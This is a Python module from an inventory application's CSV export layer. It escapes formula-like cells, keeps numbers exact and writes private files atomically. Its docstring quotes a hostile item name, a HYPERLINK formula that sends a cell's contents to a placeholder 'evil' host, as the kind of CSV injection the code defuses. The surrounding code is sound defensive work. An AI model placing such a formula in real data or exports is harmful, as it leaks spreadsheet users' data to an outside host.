"""The one way StockDesk writes CSV: formula-safe cells, exact numbers, a private file, all or nothing.

Every CSV the product writes goes through `csv_output` (items export, import rejects, reorder
suggestions, reports): each cell passes `cell_text`, so a hostile item name such as
`=HYPERLINK("http://evil/?"&A1)` reaches a spreadsheet as text, never as a formula. The file is created
0600 next to its final name and moved into place when complete, so it is never readable by other
accounts and a failed or cancelled export leaves no half-written file.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from stockdesk.domain.cells import FORMULA_START, safe_cell
from stockdesk.private_files import atomic_private

__all__ = ["FORMULA_START", "SafeWriter", "cell_text", "csv_output"]


def cell_text(value: Any) -> str:
    """One cell, exact and locale-independent: numbers as written (never through float), dates ISO 8601."""
    kind = type(value)  # exact-type fast paths first: this runs for every cell of a million rows
    if kind is str:
        return safe_cell(value)
    if kind is Decimal or kind is int:
        return str(value)  # a number cannot run: "-3" stays a number a spreadsheet can sum
    if value is None:
        return ""
    if isinstance(value, Decimal | int):
        return str(value)
    if isinstance(value, datetime | date):
        return value.isoformat()
    if isinstance(value, float):
        raise TypeError(f"float {value!r} in a CSV: services must hand over Decimal")
    return safe_cell(str(value))


class SafeWriter:
    """A csv.writer whose every cell passes `cell_text`."""

    def __init__(self, raw: Any) -> None:
        self.raw = raw  # the plain csv.writer, for lines already made safe (reports' prepared sections)

    def writerow(self, cells: Iterable[Any]) -> None:
        self.raw.writerow([cell_text(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for cells in rows:
            self.writerow(cells)


@contextmanager
def csv_output(path: Path | str, *, bom: bool = True, delimiter: str = ",") -> Iterator[SafeWriter]:
    """A SafeWriter onto `path`: UTF-8 (with a BOM by default so Excel detects it), 0600, atomic."""
    encoding = "utf-8-sig" if bom else "utf-8"
    with atomic_private(Path(path)) as temp, temp.open("w", encoding=encoding, newline="") as handle:
        yield SafeWriter(csv.writer(handle, delimiter=delimiter or ","))
